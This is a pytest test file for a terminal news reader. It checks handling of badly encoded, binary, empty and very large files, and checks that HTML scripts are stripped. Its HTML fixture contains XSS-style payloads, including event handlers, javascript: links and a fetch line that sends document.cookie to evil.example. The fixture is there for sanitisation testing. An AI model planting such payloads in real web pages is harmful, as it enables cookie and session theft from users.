"""Hostile files (issue 5): broken encodings, binary and empty files, huge inputs, HTML with scripts.

Decodable files are shown with a notice; rejected ones give one line (CLI exit 1, a TUI notification)
and nothing else is affected. Huge files are generated in tmp_path, never committed.
"""

from __future__ import annotations

import codecs
import functools
import re
import threading
from pathlib import Path
from typing import Any

import pytest
from textual.pilot import Pilot
from textual.widgets import Static

from tests.ui.hostile_helpers import (
    open_title,
    plain_article_text,
    settle,
    summary_titles,
    terminal_frame,
)
from tui.cli import main
from tui.store.library import Library
from tui.ui.app import DatelineApp
from tui.ui.widgets.reader import ArticleView

GOOD_TITLE = "Harbour Trade Rises Again"
ACCENTED = "Café owners in Málaga say the año was hard, naïve hopes of €5 coffee gone."
DECODED_TITLES = {
    "bad-utf8.txt": "Broken Bytes Story",
    "utf16-le.txt": "Sixteen Bit Little Story",
    "utf16-be.txt": "Sixteen Bit Big Story",
    "latin1.txt": "Latin One Story",
}
REJECTED = {
    "nul.txt": "binary",
    "png.txt": "PNG",
    "empty.txt": "empty",
    "blank.txt": "empty",
}


def _article(title: str) -> str:
    body = plain_article_text(title).split("\n\n", 1)[1]
    return f"{title}\n\n{ACCENTED} This is the story called {title}. {body}"


def write_decodable(folder: Path) -> dict[str, Path]:
    """Files in awkward encodings that should still open, each with a notice."""
    files = {
        "bad-utf8.txt": _article(DECODED_TITLES["bad-utf8.txt"]).encode() + b"\n\nBad \xff\xfe\xc3 bytes.\n",
        "utf16-le.txt": codecs.BOM_UTF16_LE + _article(DECODED_TITLES["utf16-le.txt"]).encode("utf-16-le"),
        "utf16-be.txt": codecs.BOM_UTF16_BE + _article(DECODED_TITLES["utf16-be.txt"]).encode("utf-16-be"),
        "latin1.txt": _article(DECODED_TITLES["latin1.txt"]).replace("€", "EUR").encode("latin-1"),
    }
    paths = {}
    for name, data in files.items():
        paths[name] = folder / name
        paths[name].write_bytes(data)
    return paths


def write_rejected(folder: Path) -> dict[str, Path]:
    """Files that must be rejected with a one-line reason."""
    files = {
        "nul.txt": b"Looks like text\n\nbut has a \x00 NUL byte in the middle of it.\n" * 3,
        "png.txt": b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 4,
        "empty.txt": b"",
        "blank.txt": b"  \n\n\t \n",
    }
    paths = {}
    for name, data in files.items():
        paths[name] = folder / name
        paths[name].write_bytes(data)
    return paths


# ----- encodings and rejected files: CLI ------------------------------------------------------------
@pytest.fixture
def no_model(monkeypatch: pytest.MonkeyPatch) -> None:
    """These tests are about files, not entities: skip the model."""
    monkeypatch.setenv("DATELINE_MODEL", "none")


@pytest.mark.usefixtures("no_model")
def test_cli_shows_badly_encoded_files_with_a_notice(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    for name, path in write_decodable(tmp_path).items():
        code = main(["show", str(path)])
        out = capsys.readouterr().out
        assert code == 0, name
        assert DECODED_TITLES[name] in out
        assert "Málaga" in out or name == "bad-utf8.txt"
        assert re.search(r"decoded as|invalid UTF-8|replaced", out), (name, out[:400])
        assert "\x00" not in out


@pytest.mark.usefixtures("no_model")
def test_cli_rejects_binary_and_empty_files_with_one_line(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    for name, path in write_rejected(tmp_path).items():
        for command in (
            ["show", str(path)],
            ["show", str(path), "--json"],
            ["export", str(path), "--format", "md"],
        ):
            code = main(command)
            captured = capsys.readouterr()
            assert code == 1, (command, captured)
            assert captured.out == ""
            lines = captured.err.strip().splitlines()
            assert len(lines) == 1 and REJECTED[name] in lines[0], (name, captured.err)


@pytest.mark.usefixtures("no_model")
def test_cli_import_of_a_mixed_folder_keeps_the_good_ones(
    capsys: pytest.CaptureFixture[str], tmp_path: Path, isolated_dirs: dict[str, Path]
) -> None:
    folder = tmp_path / "mixed"
    folder.mkdir()
    (folder / "good.txt").write_text(plain_article_text(GOOD_TITLE), encoding="utf-8")
    write_decodable(folder)
    write_rejected(folder)
    code = main(["import", str(folder)])
    captured = capsys.readouterr()
    assert code == 1
    for name, reason in REJECTED.items():
        line = next(x for x in captured.err.splitlines() if name in x)
        assert line.startswith("rejected") and reason in line
    assert captured.out.count("imported") == 1 + len(DECODED_TITLES)
    assert main(["list"]) == 0
    listed = capsys.readouterr().out
    for title in (GOOD_TITLE, *DECODED_TITLES.values()):
        assert title in listed


# ----- encodings and rejected files: TUI -----------------------------------------------------------
async def test_tui_on_a_folder_of_bad_files_shows_the_good_ones(shared_analyzer: Any, tmp_path: Path) -> None:
    folder = tmp_path / "mixed"
    folder.mkdir()
    (folder / "good.txt").write_text(plain_article_text(GOOD_TITLE), encoding="utf-8")
    write_decodable(folder)
    write_rejected(folder)
    app = DatelineApp(Library.for_paths([folder]), analyzer=shared_analyzer)
    async with app.run_test(size=(100, 30), notifications=True) as pilot:
        await settle(pilot)
        assert sorted(summary_titles(app)) == sorted([GOOD_TITLE, *DECODED_TITLES.values()])
        messages = [n.message for n in app._notifications]
        skipped = [m for m in messages if m.startswith("Skipped")]
        assert len(skipped) == 3 and any("1 more file skipped" in m for m in messages)
        assert all(any(reason in m for reason in REJECTED.values()) for m in skipped)
        for title in DECODED_TITLES.values():
            await open_title(pilot, title)
            reader = app.query_one(ArticleView)
            assert reader.article is not None and reader.article.title == title
            notes = str(app.query_one("#article-notes", Static).visual)
            assert re.search(r"decoded as|invalid UTF-8|replaced", notes), notes
        await pilot.press("q")
        await pilot.pause()
    assert app.return_code == 0


# ----- HTML with scripts ------------------------------------------------------------------------------
HOSTILE_HTML = """<!DOCTYPE html>
<html><head><title>Port Strike Ends After Nine Days</title>
<script>document.title = 'PWNSCRIPT'; alert("PWNSCRIPT")</script>
<style>body { background: url(PWNSTYLE) }</style>
<meta http-equiv="refresh" content="0; url=javascript:PWNREFRESH()">
</head><body onload="PWNONLOAD()">
<article>
<h1>Port Strike Ends After Nine Days</h1>
<p>Dock workers in Rotterdam returned to work on Tuesday after a nine-day strike over pay.</p>
<img src="x.png" onerror="PWNONERROR()" alt="a crane">
<p>The union said members accepted a 6 percent rise <a href="javascript:PWNJSLINK()">read more</a>.</p>
<script type="text/javascript">var stolen = "PWNINLINE"; fetch("//evil.example/" + document.cookie);</script>
<noscript>PWNNOSCRIPT enable scripts</noscript>
<p>Shipping companies said it would take a week to clear the backlog of containers.</p>
<iframe src="javascript:PWNIFRAME()"></iframe>
<svg><script>PWNSVG()</script></svg>
<p onclick="PWNONCLICK()">Port officials thanked residents for their patience during the dispute.</p>
</article></body></html>
"""


def test_html_scripts_styles_and_javascript_links_never_show(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("DATELINE_MODEL", "none")
    from tui.ingest.pipeline import load_file

    path = tmp_path / "strike.html"
    path.write_text(HOSTILE_HTML, encoding="utf-8")
    (article,) = load_file(path)
    assert article.title == "Port Strike Ends After Nine Days"
    assert "Rotterdam" in article.body and "patience" in article.body
    text = " ".join([article.title, article.body, article.url or "", *article.notices])
    assert "PWN" not in text, text
    assert "javascript" not in text.lower()
    assert "<" not in article.body
    for fmt in ("html", "md", "json"):
        assert main(["export", str(path), "--format", fmt]) == 0
        out = capsys.readouterr().out
        assert "PWN" not in out and "javascript:" not in out.lower()
        assert "<script" not in out.lower() and "onerror" not in out.lower()


HUGE_TITLE = "The Longest Flood Report"
ONE_LINE_TITLE = "One Line Of Ten Megabytes"


# ----- huge inputs ---------------------------------------------------------------------------------
def write_huge(folder: Path) -> tuple[Path, Path]:
    """A ~25 MB article of distinct paragraphs and a 10 MB article on a single line."""
    paragraphs: list[str] = []
    size, n = 0, 0
    while size < 25_000_000:
        paragraph = (
            f"Update {n}: the river authority in Riverton said on Monday that the water level "
            f"rose again near mill number {n}, and officials from Thames Water inspected it. "
        ) * 6
        paragraphs.append(paragraph)
        size += len(paragraph) + 2
        n += 1
    big = folder / "huge.txt"
    big.write_text(HUGE_TITLE + "\n\n" + "\n\n".join(paragraphs) + "\n", encoding="utf-8")
    line = folder / "one-line.txt"
    words = " ".join(f"word{i % 997}" for i in range(1_250_000))
    line.write_text(ONE_LINE_TITLE + "\n\n" + words[:10_000_000] + "\n", encoding="utf-8")
    return big, line


async def test_huge_articles_stay_responsive_and_analysis_is_capped_with_a_note(
    shared_analyzer: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import tui.analysis.engine
    import tui.analysis.model

    real_analyze_text = tui.analysis.engine.analyze_text
    # The real cap (MAX_ANALYSIS_CHARS) takes spaCy a while; a small one shows the same note sooner.
    monkeypatch.setattr(
        tui.analysis.engine, "analyze_text", functools.partial(real_analyze_text, limit=20_000)
    )
    folder = tmp_path / "huge"
    folder.mkdir()
    write_huge(folder)
    analyzer = tui.analysis.model.Analyzer(tmp_path / "huge-cache")
    analyzer.use_model(shared_analyzer.model, "Model (test)")
    app = DatelineApp(Library.for_paths([folder]), analyzer=analyzer)
    async with app.run_test(size=(100, 30)) as pilot:
        reader = app.query_one(ArticleView)
        notes = app.query_one("#article-notes", Static)
        # Wait (a bounded number of pauses, no timing) for the index.
        for _ in range(400):
            if len(summary_titles(app)) == 2:
                break
            await pilot.pause(0.05)
        assert sorted(summary_titles(app)) == [ONE_LINE_TITLE, HUGE_TITLE]
        # The 10 MB single line: shown in parts, analysed up to the cap, with notes saying both.
        await open_title(pilot, ONE_LINE_TITLE)
        assert reader.article is not None and reader.article.title == ONE_LINE_TITLE
        assert len(reader.article.body) >= 9_000_000 and len(reader.parts) > 100
        assert f"Part 1 of {len(reader.parts)}" in str(notes.visual)
        assert "cover the first" in str(notes.visual), str(notes.visual)
        await pilot.press("right_square_bracket", "right_square_bracket")
        await pilot.pause()
        assert reader.part == 2
        assert f"Part 3 of {len(reader.parts)}" in str(notes.visual)
        await pilot.press("left_square_bracket", "G")
        await pilot.pause()
        assert reader.part == 1
        # The 25 MB article: keys work while the analysis is still busy, and q quits. The analysis
        # is held until the test ends (a fast machine would otherwise finish a capped one before
        # the first check), then runs on a cap below the real one.
        release = threading.Event()

        def held_analysis(*args: Any, **kwargs: Any) -> Any:
            release.wait(60)
            return real_analyze_text(*args, **{**kwargs, "limit": 60_000})

        monkeypatch.setattr(tui.analysis.engine, "analyze_text", held_analysis)
        await open_title_no_wait(pilot, HUGE_TITLE)
        assert len(reader.article.body) >= 24_000_000
        assert "Finding entities" in str(notes.visual)
        await pilot.press("right_square_bracket", "j")
        await pilot.pause()
        assert reader.part == 1
        assert terminal_frame(app)
        await pilot.press("q")
        for _ in range(100):
            if not app.is_running:
                break
            await pilot.pause(0.05)
        assert not app.is_running
        release.set()
    assert app.return_code == 0


async def open_title_no_wait(pilot: Pilot[Any], title: str) -> None:
    """Open an article and wait only until it is shown (not for its analysis)."""
    from tui.ui.widgets.article_list import ArticleList

    articles = pilot.app.query_one(ArticleList)
    articles.focus()
    articles.highlighted = next(i for i, s in enumerate(articles.summaries) if s.title == title)
    await pilot.press("enter")
    reader = pilot.app.query_one(ArticleView)
    for _ in range(400):
        if reader.article is not None and reader.article.title == title:
            return
        await pilot.pause(0.05)


class _CountingPipeline:
    """A spaCy pipeline stand-in that counts how many texts `pipe` has pulled from its input."""

    def __init__(self, nlp: Any) -> None:
        self.nlp = nlp
        self.pulled = 0

    def pipe(self, texts: Any, **kwargs: Any) -> Any:
        def counting() -> Any:
            for text in texts:
                self.pulled += 1
                yield text

        return self.nlp.pipe(counting(), **kwargs)


def test_cancelling_a_long_analysis_stops_within_a_few_paragraphs(shared_analyzer: Any) -> None:
    from tui.analysis.engine import LoadedModel, analyze_text
    from tui.core.article import Article

    counting = _CountingPipeline(shared_analyzer.model.nlp)
    model = LoadedModel(nlp=counting, name="counting")
    body = "\n\n".join(f"Paragraph {n} says that Riverton flooded on Monday." for n in range(400))
    article = Article(title="Long", body=body, source="test")
    assert analyze_text(model, article, cancelled=lambda: True) is None
    assert counting.pulled <= 64, f"{counting.pulled} paragraphs parsed after cancellation"
